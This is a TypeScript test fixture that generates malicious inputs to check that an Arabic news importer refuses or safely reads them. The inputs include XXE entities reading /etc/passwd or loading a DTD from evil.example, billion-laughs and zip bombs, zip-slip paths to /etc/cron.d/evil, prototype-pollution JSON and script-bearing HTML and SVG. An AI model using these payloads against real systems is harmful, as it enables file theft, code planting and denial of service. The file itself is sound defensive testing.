import { deflateRawSync } from 'node:zlib'
import { renamed, zipOf } from './zip.ts'

export interface HostileFile {
  /** A sentence of what is wrong with it. */
  what: string
  name: string
  bytes: Uint8Array
  outcome: 'read' | 'refused'
}

const story = 'خبر من أربيل\n\nفقرة من الخبر.\n'
const mebibyte = 1024 * 1024
const text = (words: string): Buffer => Buffer.from(words)
const page = (body: string): Buffer =>
  text(`<!doctype html><html lang="ar"><body><article><h1>خبر</h1>${body}</article></body></html>`)

/** Files as an enemy would make them, and as a broken disk does. */
export async function hostileFiles(): Promise<HostileFile[]> {
  return [
    ...hostileTexts(),
    ...hostilePages(),
    ...hostileJson(),
    ...hostileXml(),
    ...(await hostileZips()),
    ...(await cutFiles()),
  ]
}

function hostileTexts(): HostileFile[] {
  const of = (what: string, bytes: Uint8Array, outcome: HostileFile['outcome'], name = 'a.txt') => ({
    what,
    name,
    bytes,
    outcome,
  })
  return [
    of('a line of 30 MB', Buffer.alloc(30 * mebibyte, 'a'), 'refused'),
    of('a line of 20 MB without a space', Buffer.alloc(20 * mebibyte, 'a'), 'refused'),
    of('a line of 2 MB', Buffer.alloc(2 * mebibyte, 'a'), 'read'),
    of('2 MB of spaces', Buffer.alloc(2 * mebibyte, ' '), 'refused'),
    of(
      '2 MB of line ends and one word',
      Buffer.concat([Buffer.alloc(2 * mebibyte, '\n'), text('خبر')]),
      'read',
    ),
    of('a megabyte of tatweel', text('ـ'.repeat(500_000)), 'read'),
    of('a megabyte of marks on one letter', text(`ب${'\u064e'.repeat(500_000)}`), 'read'),
    of('a megabyte of isolates that none closes', text(`خبر\n\n${'\u2067'.repeat(300_000)}فقرة`), 'read'),
    of('nothing', new Uint8Array(), 'refused'),
    of('a program', Buffer.from('7f454c4602010100000000000000000002003e00', 'hex'), 'refused'),
    of(
      'half of a letter in UTF-16',
      Buffer.concat([Buffer.from('\ufeffخبر', 'utf16le'), Buffer.from([0x06])]),
      'read',
    ),
    of('UTF-8 that claims to be UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), text(story)]), 'read'),
    of('overlong UTF-8 of a slash', Buffer.concat([text('خبر '), Buffer.from([0xc0, 0xaf])]), 'read'),
    of(
      'a surrogate written as UTF-8',
      Buffer.concat([text('خبر '), Buffer.from([0xed, 0xa0, 0x80])]),
      'read',
    ),
  ]
}

function hostilePages(): HostileFile[] {
  const of = (what: string, bytes: Uint8Array, outcome: HostileFile['outcome'] = 'read') => ({
    what,
    name: 'a.html',
    bytes,
    outcome,
  })
  const nested = (tag: string, count: number) =>
    page(`${`<${tag}>`.repeat(count)}<p>كلمة</p>${`</${tag}>`.repeat(count)}`)
  return [
    of('10,000 elements in one another', nested('div', 10_000), 'refused'),
    of('10,000 quotes in one another', nested('blockquote', 10_000), 'refused'),
    of('400 quotes in one another', nested('blockquote', 400)),
    of('200,001 elements', page('<br>'.repeat(200_001)), 'refused'),
    of(
      '20,000 attributes of one element',
      page(`<p ${Array.from({ length: 20_000 }, (_, n) => `a${n}=1`).join(' ')}>كلمة</p>`),
      'refused',
    ),
    of('misnested formatting without end', page('<p><b><i><u>كلمة'.repeat(3000))),
    of('a page of a million `<`', page(`<p>كلمة</p>${'<'.repeat(mebibyte)}`)),
    of('a comment that is never closed', page(`<p>كلمة</p>${'<!--'.repeat(200_000)}`)),
    of(
      'scripts, handlers and frames',
      page(
        '<script>polluted=1</script><p onclick="x()">كلمة</p><iframe srcdoc="<script>1</script>"></iframe>',
      ),
    ),
    of(
      'addresses that run',
      page('<p><a href="java\nscript:alert(1)">كلمة</a> <a href="data:text/html,x">كلمة</a></p>'),
    ),
    of(
      'a drawing with a script',
      page('<p>كلمة</p><svg><script>1</script><image href="https://evil.example/1.png"/></svg>'),
    ),
    of(
      'a drawing as a picture',
      page('<p>كلمة</p><img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PjE8L3NjcmlwdD48L3N2Zz4=">'),
    ),
    of(
      'styles that load and hide',
      page(
        '<style>@import "https://evil.example/a.css"</style><p style="background:url(https://evil.example/b.png);position:fixed">كلمة</p>',
      ),
    ),
    of(
      'data that reach for a prototype',
      page(
        '<p>كلمة</p><script type="application/ld+json">{"@type":"NewsArticle","__proto__":{"polluted":1},"author":{"constructor":{"prototype":{"polluted":1}}}}</script>',
      ),
    ),
    of(
      'a picture of half a byte',
      page('<p>كلمة</p><img src="data:image/png;base64,A"><img src="data:image/png;base64,AAAA">'),
    ),
    of(
      'a span over a billion columns',
      page('<table><tr><td colspan="999999999" rowspan="-1">كلمة</td><td>أخرى</td></tr></table>'),
    ),
  ]
}

function hostileJson(): HostileFile[] {
  const of = (what: string, words: string, name = 'a.midad') => ({
    what,
    name,
    bytes: text(words),
    outcome: 'refused' as const,
  })
  const article = (more: string) =>
    `{"schemaVersion":1,"id":"01HZZZZZZZZZZZZZZZZZZZ0001","revision":1,"language":"ar","status":"draft","createdAt":"2024-05-08T00:00:00Z","updatedAt":"2024-05-08T00:00:00Z","fields":{},"body":{"type":"doc","content":[{"type":"paragraph"}]}${more}}`
  return ['a.midad', 'a.json'].flatMap((name) => [
    of(`${name} that reaches for a prototype`, article(',"__proto__":{"polluted":1}'), name),
    of(
      `${name} that reaches for a constructor`,
      article(',"constructor":{"prototype":{"polluted":1}}'),
      name,
    ),
    of(`${name} of 100,000 arrays in one another`, `${'['.repeat(100_000)}${']'.repeat(100_000)}`, name),
    of(
      `${name} of 100,000 objects in one another`,
      `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
      name,
    ),
    of(
      `${name} with a story of 20,000 quotes in one another`,
      article('').replace(
        '{"type":"paragraph"}',
        `${'{"type":"blockquote","content":['.repeat(20_000)}{"type":"paragraph"}${']}'.repeat(20_000)}`,
      ),
      name,
    ),
    of(`${name} with a number beyond all numbers`, '{"schemaVersion":1e999}', name),
    of(`${name} that is a string`, '"خبر"', name),
  ])
}

function hostileXml(): HostileFile[] {
  const of = (what: string, words: string) => ({
    what,
    name: 'a.xml',
    bytes: text(words),
    outcome: 'refused' as const,
  })
  const bomb = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  const news = (doctype: string, inside: string) =>
    `<?xml version="1.0"?>${doctype}<nitf><body><body.content><p>${inside}</p></body.content></body></nitf>`
  return [
    of(
      'XML that asks for a file of this computer',
      news('<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'),
    ),
    of(
      'XML that asks for an address',
      news('<!DOCTYPE nitf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>', 'x'),
    ),
    of('XML of a billion laughs', news(`<!DOCTYPE nitf [<!ENTITY l0 "ha">${bomb}]>`, '&l9;')),
    of(
      'XML with one long entity named often',
      news(`<!DOCTYPE nitf [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(50_000)),
    ),
    of('XML of 100,000 elements in one another', `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
    of('XML that is cut off', news('', 'خبر').slice(0, 60)),
  ]
}

async function hostileZips(): Promise<HostileFile[]> {
  const of = (what: string, bytes: Uint8Array, outcome: HostileFile['outcome'] = 'refused') => ({
    what,
    name: 'a.zip',
    bytes,
    outcome,
  })
  const named = async (path: string) => {
    const stand = 'x'.repeat(Buffer.byteLength(path))
    return renamed(await zipOf({ [stand]: story, 'good.txt': story }), stand, path)
  }
  const link = await zipOf({ 'link.txt': '/etc/passwd' }, { mode: 0o120777 })
  const device = await zipOf({ 'device.txt': 'x' }, { mode: 0o020666 })
  const zeros = deflateRawSync(Buffer.alloc(150 * mebibyte))
  const bomb = await zipOf({ 'a.txt': Buffer.alloc(120 * mebibyte), 'good.txt': story })
  const inner = await zipOf({ 'a.txt': Buffer.alloc(mebibyte / 2, 'a') })
  const nests = async (levels: number, bytes: Uint8Array): Promise<Buffer> =>
    levels === 0 ? Buffer.from(bytes) : nests(levels - 1, await zipOf({ 'a.zip': bytes }))
  const many = handMade(deflateRawSync(''), 0, 20_001)
  return [
    of('a name that leads up', await named('../../etc/cron.d/evil')),
    of('an absolute name', await named('/etc/cron.d/evil')),
    of('the name of a drive', await named('C:/Windows/evil.txt')),
    of('a name with backslashes', await named('..\\..\\evil.txt')),
    of('a link', link),
    of('a device', device),
    of('two of one name', renamed(await zipOf({ 'a.txt': story, 'b.txt': story }), 'b.txt', 'a.txt')),
    of('two names that differ in case alone', await zipOf({ 'a.txt': story, 'A.txt': story })),
    of(
      'two names that one system writes alike',
      await zipOf({ 'caf\u00e9.txt': story, 'cafe\u0301.txt': story }),
    ),
    of('zeros that unpack to 120 MB', bomb),
    of('more files than an archive may hold', many),
    of('files that lie over each other', overlapping(zeros)),
    of('a file that says it is smaller than it is', understated(zeros)),
    of('archives in one another without end', await nests(12, inner)),
    of(
      'a hundred archives that together unpack to more than one may',
      await zipOf(Object.fromEntries(await manyPacked())),
    ),
    of('an archive in an archive', await nests(1, await zipOf({ 'a.txt': story })), 'read'),
    of('a device of Windows as a name, which is only looked up', await zipOf({ 'AUX.txt': story }), 'read'),
    of(
      'a hidden page that names what lies outside',
      await zipOf({
        'a.html': page(
          '<p>كلمة</p><img src="../../../etc/passwd"><img src="/etc/passwd"><img src="file:///etc/passwd">',
        ),
      }),
      'read',
    ),
  ]
}

/** A hundred archives of some 150 kB that hold 30 MB each, packed just below what a bomb is taken for. */
async function manyPacked(): Promise<[string, Buffer][]> {
  const noise = Buffer.alloc(5 * mebibyte, 'a')
  for (let at = 0; at < noise.length; at += 100) noise[at] = 32 + ((at * 7919) % 90)
  const one = await zipOf(Object.fromEntries(Array.from({ length: 6 }, (_, n) => [`${n}.xyz`, noise])))
  return Array.from({ length: 100 }, (_, n) => [`${n}.zip`, one])
}

/** A table of contents whose hundred entries all have the same bytes. */
function overlapping(packed: Buffer): Buffer {
  return handMade(packed, 150 * mebibyte, 100)
}

/** Its one entry has 150 MB and says a thousand bytes. */
function understated(packed: Buffer): Buffer {
  return handMade(packed, 1000, 1)
}

/** PKZIP 6.3.10: one local header with its bytes, and a table of contents that names it so often. */
function handMade(packed: Buffer, size: number, count: number): Buffer {
  const local = Buffer.alloc(30 + 5)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(size, 22)
  local.writeUInt16LE(5, 26)
  local.write('0.txt', 30)
  const contents = Array.from({ length: count }, (_, n) => {
    const name = Buffer.from(`${n}.txt`)
    const head = Buffer.alloc(46)
    head.writeUInt32LE(0x02014b50, 0)
    head.writeUInt16LE(20, 6)
    head.writeUInt16LE(8, 10)
    head.writeUInt32LE(packed.length, 20)
    head.writeUInt32LE(size, 24)
    head.writeUInt16LE(name.length, 28)
    return Buffer.concat([head, name])
  })
  const table = Buffer.concat(contents)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(table.length, 12)
  end.writeUInt32LE(local.length + packed.length, 16)
  return Buffer.concat([local, packed, table, end])
}

/** A good zip cut at many places: none of it comes in but what is whole. */
async function cutFiles(): Promise<HostileFile[]> {
  const zip = await zipOf({ 'a.txt': story, 'b/c.txt': story })
  return Array.from({ length: 20 }, (_, n) => Math.floor((zip.length * (n + 1)) / 21)).map((at) => ({
    what: `a zip of ${zip.length} bytes cut after ${at}`,
    name: 'a.zip',
    bytes: zip.subarray(0, at),
    outcome: 'refused',
  }))
}
